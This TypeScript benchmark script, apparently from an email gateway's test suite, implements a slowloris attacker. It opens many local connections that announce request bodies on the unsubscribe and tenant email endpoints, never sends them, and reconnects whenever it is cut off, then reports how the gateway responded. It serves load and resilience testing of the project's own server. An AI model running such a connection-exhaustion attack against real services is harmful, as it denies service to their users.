// A slowloris attacker in a process of its own: `public` connections announce a body on `POST /unsubscribe`, `tenant`
// ones on `POST /emails` with a key, then send nothing. `hold` reopens a cut-off connection at once; `retry` reopens
// every closed one a second later. `holding` is printed once every first connection was decided, so a run measures the
// attack held; SIGTERM prints one JSON line. `npx tsx bench/stalled-attacker.ts <url> <key> <public> <tenant> [hold|retry]`
import net from 'node:net';

const [url, key, publicArg, tenantArg, mode = 'hold'] = process.argv.slice(2);
const port = Number(new URL(url).port);
const answers: Record<string, number> = {};
let opened = 0;
let held = 0;
let running = true;

const expect = 'Expect: 100-continue\r\n';
const heads = {
  public: `POST /unsubscribe HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n${expect}\r\n`,
  tenant: `POST /emails HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n${expect}\r\n`,
};

/** One connection that sends `head` and holds its body back; resolves once the gateway decided what to do with it. */
function hold(head: string): Promise<void> {
  opened++;
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1', () => socket.write(head));
    let continued = false;
    let status: string | undefined;
    socket.on('data', (chunk: Buffer) => {
      for (const [, code] of chunk.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3})/g)) {
        if (code === '100') {
          continued = true;
          held++;
        } else if (!status) {
          status = code;
          answers[code] = (answers[code] ?? 0) + 1;
        }
      }
      resolve();
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      resolve();
      if (continued) held--;
      if (!status) answers.closed = (answers.closed ?? 0) + 1;
      if (!running) return;
      if (mode === 'retry') setTimeout(() => void hold(head), 1000);
      else if (status !== '503') void hold(head);
    });
  });
}

async function main() {
  const connections = [
    ...Array.from({ length: Number(publicArg) }, () => hold(heads.public)),
    ...Array.from({ length: Number(tenantArg) }, () => hold(heads.tenant)),
  ];
  await Promise.all(connections);
  process.stdout.write('holding\n');
}

process.once('SIGTERM', () => {
  running = false;
  process.stdout.write(`${JSON.stringify({ answers, opened, heldAtEnd: held })}\n`);
  process.exit(0);
});
void main();
